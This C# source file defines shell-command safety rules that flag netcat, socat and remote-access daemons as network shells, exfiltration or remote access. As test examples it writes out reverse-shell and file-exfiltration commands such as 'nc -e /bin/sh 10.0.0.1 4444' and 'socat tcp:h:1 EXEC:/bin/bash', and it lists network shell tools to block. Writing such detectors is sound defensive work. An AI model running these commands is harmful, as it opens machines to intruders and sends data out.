using AgentGen.Shell.Analysis;

namespace AgentGen.Shell.Rules;

/// <summary>Programs that connect files and other programs to the network as they are.</summary>
internal static class Sockets
{
    private const string Code = ShellReasonCodes.NetworkShell;

    private const string Message = "Connects a program to the network.";

    internal static readonly CommandSpec[] Table =
    [
        Spec.Changes("nc ncat netcat nc.traditional nc.openbsd nc6 cryptcat dbd sbd pwncat rcat socket", OperandRole.Data, "*", ShellReasonCodes.Network,
            "Talks to another machine.")
            .Dangerous(
                Code, Message,
                When.Argument(static argument => argument.Text is "--exec" or "--sh-exec" or "--lua-exec"
                    || argument.Text.StartsWith("--exec=", StringComparison.Ordinal) || argument.Text.StartsWith("--sh-exec=", StringComparison.Ordinal)
                        || argument.Text.StartsWith("--lua-exec=", StringComparison.Ordinal)
                    || (argument.IsOption && argument.Text[1] != '-' && argument.Text.IndexOfAny(['e', 'c']) > 0)),
                match: ["nc -e /bin/sh 10.0.0.1 4444", "ncat --exec x h 1", "ncat --sh-exec=ls h 1"], noMatch: ["nc -zv h 80"])
            .Dangerous(
                Code, Message,
                When.Argument(static argument => EmbeddedShell.In(argument.Text)),
                match: ["socket -svp '/bin/sh -i' 1"], noMatch: ["nc h 1"])
            .Dangerous(
                ShellReasonCodes.Exfiltration, "Sends a file or what was piped in.",
                static call => call.Input is { Exists: true, Text: null } && !call.Arguments.Any(static argument => argument.IsOption
                    && argument.Text[1] != '-' && argument.Text.IndexOf('z') > 0) ? 0 : -1,
                match: ["nc h 1 < f", "cat f | nc h 1"], noMatch: ["nc -zv h 80", "echo stats | nc localhost 11211"]),
        Spec.Changes("socat socat1 socat2", OperandRole.Data, "-t= -T= -b= -L= -W= -l= -r= -R= *", ShellReasonCodes.Network, "Talks to another machine.")
            .Dangerous(
                Code, Message,
                When.Argument(
                    static argument => Begins(argument, "EXEC:", "SYSTEM:", "SHELL:") || EmbeddedShell.In(argument.Text)
                        || argument.Text.IndexOf("EXEC:", StringComparison.OrdinalIgnoreCase) >= 0),
                match: ["socat tcp:h:1 EXEC:/bin/bash", "socat tcp-l:1 system:ls"], noMatch: ["socat - tcp:h:1"])
            .Dangerous(
                Code, "Gives a terminal to the network.",
                When.Operand(static argument => Begins(argument, "file:") && argument.Text.IndexOf("tty", StringComparison.Ordinal) >= 0),
                match: ["socat file:/dev/tty,raw,echo=0 tcp-listen:1"], noMatch: ["socat tcp-l:1 tcp:h:2"])
            .Dangerous(
                ShellReasonCodes.Exfiltration, "Sends a file or what was piped in.",
                static call => call.Operands.Count > 1 && call.Operands.Any(index => IsNetwork(call.Arguments[index]))
                    ? call.Input is { Exists: true, Text: null } ? 0 : call.Operand(0) is var first
                        && Begins(first, "file:", "open:", "gopen:", "rdonly:", "-u file") ? call.Operands[0] : -1
                    : -1,
                match: ["socat -u file:f tcp:h:1", "socat - tcp:h:1 < f"], noMatch: ["socat tcp-l:1 tcp:h:2", "socat -u tcp-l:1 open:f,creat"])
            .Runs(static (call, judge) =>
            {
                foreach (int index in call.Operands)
                {
                    Argument address = call.Arguments[index];
                    int colon = address.Text.IndexOf(':');
                    if (colon > 0 && Begins(address, "file:", "open:", "gopen:", "create:", "creat:"))
                    {
                        Argument path = address.WithText(address.Text.Substring(colon + 1).Split([','])[0]);
                        PathJudge.Read(judge.Findings, path);
                        PathJudge.WriteSensitive(judge.Findings, path);
                    }
                }
            }),
        Spec.Dangerous("telnetd in.telnetd inetd xinetd utelnetd rshd rexecd dropbear gs-netcat gsocket gs-sftp powercat tcpserver tcpsvd",
            ShellReasonCodes.RemoteAccess, "Opens the machine to others."),
    ];

    private static bool IsNetwork(Argument address) => Begins(address, "tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "vsock", "ip", "dccp");

    private static bool Begins(Argument argument, params string[] beginnings)
    {
        foreach (string beginning in beginnings)
        {
            if (argument.Text.StartsWith(beginning, StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        return false;
    }
}
